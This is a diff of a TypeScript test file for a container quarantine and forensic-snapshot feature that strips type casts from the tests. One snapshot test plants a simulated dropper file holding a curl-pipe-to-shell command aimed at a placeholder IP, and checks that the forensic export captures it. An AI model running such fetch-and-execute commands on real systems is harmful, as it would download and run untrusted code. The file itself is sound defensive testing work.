@@ -1,8 +1,6 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { extract } from 'tar-stream';
-import type { ArtifactInfo, VerifyReport } from '../../../shared/domain/evidence';
-import type { QuarantinePlan, QuarantineRecord } from '../../../shared/domain/quarantine';
 import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
 import { networksOf, networkWithSubnet, QUARANTINE_NET, removeNetworks, stateOf } from './fixture';
 
@@ -68,11 +66,11 @@ describe('quarantine: pause, snapshot, stop', () => {
 
   it('pause freezes the processes; release unpauses', async () => {
     const id = run('pause', ['--network', net, BUSYBOX, 'sh', '-c', 'i=0; while true; do i=$((i+1)); echo $i > /tmp/tick; sleep 0.1; done']);
-    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] })) as QuarantineRecord;
+    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] });
     assert.equal(record.steps[0]?.state, 'done');
     assert.equal(stateOf(id).Paused, true);
     assert.deepEqual(Object.keys(networksOf(id)), [net], 'pause alone leaves the networks alone');
-    const released = (await t.call('quarantine.release', { host: 'local', container: id })) as QuarantineRecord;
+    const released = await t.call('quarantine.release', { host: 'local', container: id });
     assert.equal(released.release?.steps.find((s) => s.name === 'unpause')?.state, 'done');
     assert.equal(stateOf(id).Paused, false);
     const a = docker(['exec', id, 'cat', '/tmp/tick']);
@@ -83,7 +81,7 @@ describe('quarantine: pause, snapshot, stop', () => {
   it('a container paused before quarantine stays paused after release', async () => {
     const id = run('prepaused', [BUSYBOX, 'sleep', '3600']);
     docker(['pause', id]);
-    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['isolate', 'pause'] })) as QuarantineRecord;
+    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['isolate', 'pause'] });
     assert.equal(record.before.paused, true);
     assert.equal(record.steps.find((s) => s.mode === 'pause')?.state, 'skipped');
     assert.deepEqual(Object.keys(networksOf(id)), [QUARANTINE_NET], 'a paused container can still be isolated');
@@ -97,7 +95,7 @@ describe('quarantine: pause, snapshot, stop', () => {
     const id = run('snap', ['--network', net, BUSYBOX, 'sh', '-c', 'echo "curl http://203.0.113.9/x | sh" > /tmp/dropper.sh; sleep 3600']);
     await new Promise((r) => setTimeout(r, 300));
     const since = docker(['system', 'info', '-f', '{{json .SystemTime}}']).replace(/"/g, '');
-    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] })) as QuarantineRecord;
+    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] });
     const snap = record.snapshot;
     assert.ok(snap?.imageId && snap.artifactId, JSON.stringify(record));
     images.push(snap.imageId);
@@ -111,19 +109,19 @@ describe('quarantine: pause, snapshot, stop', () => {
     assert.equal(stateOf(id).Paused, false);
     assert.equal(stateOf(id).Running, true);
 
-    const artifact = (await t.call('evidence.artifact', { artifactId: snap.artifactId })) as ArtifactInfo;
+    const artifact = await t.call('evidence.artifact', { artifactId: snap.artifactId });
     assert.equal(artifact.kind, 'filesystem-export');
     assert.equal(artifact.status, 'complete');
     assert.equal(artifact.source.containerId, id);
     const content = await fileInTar(await t.core.evidence.openArtifact(snap.artifactId), 'tmp/dropper.sh');
     assert.equal(content, 'curl http://203.0.113.9/x | sh\n', 'the dropped file is in the export');
-    const verify = (await t.call('evidence.verify', {})) as VerifyReport;
+    const verify = await t.call('evidence.verify', {});
     assert.equal(verify.ok, true, JSON.stringify(verify.problems));
     assert.equal(docker(['ps', '-aq', '--filter', `label=drydock.forensic.export=${record.id}`]), '', 'the export container is gone');
 
-    const again = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] })) as QuarantineRecord;
+    const again = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] });
     assert.equal(again.snapshot?.artifactId, snap.artifactId, 'a second apply does not snapshot again');
-    const released = (await t.call('quarantine.release', { host: 'local', container: id })) as QuarantineRecord;
+    const released = await t.call('quarantine.release', { host: 'local', container: id });
     assert.equal(released.state, 'released');
     assert.ok(docker(['image', 'inspect', '-f', '{{.Id}}', snap.imageId]), 'the forensic image is kept after release');
   });
@@ -131,10 +129,10 @@ describe('quarantine: pause, snapshot, stop', () => {
   it('stop warns that memory is lost; release starts it again on the same static address', async () => {
     const ip = `${prefix}.50`;
     const id = run('stop', ['--network', net, '--ip', ip, '--network-alias', 'stopper', BUSYBOX, 'sleep', '3600']);
-    const plan = (await t.call('quarantine.plan', { host: 'local', container: id, modes: ['stop', 'isolate'] })) as QuarantinePlan;
+    const plan = await t.call('quarantine.plan', { host: 'local', container: id, modes: ['stop', 'isolate'] });
     assert.deepEqual(plan.steps.map((s) => s.mode), ['isolate', 'stop'], 'steps run in a fixed order');
     assert.ok(plan.steps.find((s) => s.mode === 'stop')?.notices.some((n) => n.severity === 'danger' && /memory is lost/i.test(n.text)));
-    const record = (await t.call('quarantine.apply', { host: 'local', container: id, modes: ['stop', 'isolate'] })) as QuarantineRecord;
+    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['stop', 'isolate'] });
     assert.equal(record.state, 'quarantined');
     assert.equal(stateOf(id).Running, false);
     await t.call('quarantine.release', { host: 'local', container: id });
@@ -150,7 +148,7 @@ describe('quarantine: pause, snapshot, stop', () => {
     await assert.rejects(t.call('quarantine.apply', { host: 'local', container: rm, modes: ['stop'] }), /conflict: .*--rm/);
     assert.equal(stateOf(rm).Running, true);
     const hostNet = run('hostnet', ['--network', 'host', BUSYBOX, 'sleep', '3600']);
-    const plan = (await t.call('quarantine.plan', { host: 'local', container: hostNet, modes: ['isolate'] })) as QuarantinePlan;
+    const plan = await t.call('quarantine.plan', { host: 'local', container: hostNet, modes: ['isolate'] });
     assert.match(plan.steps[0]?.blocked ?? '', /host's network namespace/);
     await assert.rejects(t.call('quarantine.apply', { host: 'local', container: hostNet, modes: ['isolate', 'pause'] }), /unsupported: .*Nothing was changed/);
     assert.equal(stateOf(hostNet).Paused, false);
@@ -159,7 +157,7 @@ describe('quarantine: pause, snapshot, stop', () => {
 
   it('warns that a Swarm task may be replaced by the orchestrator', async () => {
     const id = run('task', ['--label', 'com.docker.swarm.task.id=abc123', '--label', 'com.docker.swarm.service.name=shop_web', '--label', 'com.docker.swarm.task.name=shop_web.1.abc123', BUSYBOX, 'sleep', '3600']);
-    const plan = (await t.call('quarantine.plan', { host: 'local', container: id, modes: ['isolate'] })) as QuarantinePlan;
+    const plan = await t.call('quarantine.plan', { host: 'local', container: id, modes: ['isolate'] });
     const warning = plan.notices.find((n) => n.severity === 'warning' && /Swarm service shop_web/.test(n.text));
     assert.ok(warning);
     assert.match(warning.text, /orchestrator may replace it/);
